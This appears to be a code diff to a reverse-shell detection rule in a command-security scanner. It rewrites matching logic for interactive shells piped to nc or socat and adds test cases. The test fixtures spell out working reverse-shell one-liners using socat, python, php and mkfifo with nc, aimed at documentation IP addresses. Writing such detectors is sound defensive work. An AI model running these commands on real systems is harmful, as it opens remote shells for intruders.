@@ -18,7 +18,7 @@ const reverseShell: CommandRule = {
   id: "execution.reverse-shell",
   tactic: TACTIC,
   technique: "T1059.004",
-  match(inv): RuleHit | undefined {
+  match(inv, all, index): RuleHit | undefined {
     const t = inv.command.text;
     const dev = inv.command.redirects.find((r) => /^\/dev\/(tcp|udp)\//.test(r.target));
     if (dev && (INTERPRETERS.test(inv.name) || inv.name === "exec" || inv.name === "")) {
@@ -37,8 +37,13 @@ const reverseShell: CommandRule = {
     if (/^python[\d.]*$|^perl$|^ruby$|^php$|^node$/.test(inv.name) && /socket|fsockopen|net\.Socket|Socket\.new|TCPSocket/i.test(t) && /dup2|subprocess|pty\.spawn|exec\(|\/bin\/(ba)?sh|spawn\(|proc_open|popen|shell_exec/.test(t)) {
       return { action: remoteShell(/["'](\d{1,3}(?:\.\d{1,3}){3})["']/.exec(t)?.[1] ?? ""), reason: `${inv.name} code that connects a socket and runs a shell over it: reverse shell (T1059.006)`, technique: "T1059.006" };
     }
-    if (inv.name === "mkfifo" && /\b(nc|ncat|netcat|telnet|openssl)\b/.test(t) && /\/bin\/(ba)?sh|\bsh\b/.test(t)) {
-      return { action: remoteShell(""), reason: "pipes a shell through a named pipe to a network connection: reverse shell (T1059.004)" };
+    // sh -i | nc host port (often through a named pipe): an interactive shell's output goes to a socket.
+    if (/^(nc|ncat|netcat|telnet|openssl|socat)$/.test(inv.name)) {
+      const prev = previous(all, index);
+      if (prev && INTERPRETERS.test(prev.name) && prev.args.some((a) => /^-[a-z]*i$/.test(a))) {
+        const host = inv.args.find((a) => !a.startsWith("-") && /[a-z.]/i.test(a) && a !== "s_client") ?? "";
+        return { action: remoteShell(host), reason: `pipes an interactive shell to ${shown(host || "a socket")} with ${inv.name}: reverse shell (T1059.004)` };
+      }
     }
     return undefined;
   },
@@ -51,8 +56,9 @@ const reverseShell: CommandRule = {
       `socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr`,
       `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
       `php -r '$s=fsockopen("198.51.100.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'`,
+      `mkfifo /tmp/p; /bin/bash -i < /tmp/p 2>&1 | nc 203.0.113.5 9001 > /tmp/p`,
     ],
-    noMatch: [`nc -zv localhost 5432`, `python3 -c 'import socket; print(socket.gethostname())'`, `socat - UNIX-CONNECT:/var/run/app.sock`, `bash -c "echo hi"`],
+    noMatch: [`nc -zv localhost 5432`, `python3 -c 'import socket; print(socket.gethostname())'`, `socat - UNIX-CONNECT:/var/run/app.sock`, `bash -c "echo hi"`, `bash -i`, `cat data.txt | nc localhost 9000`],
   },
 };
 
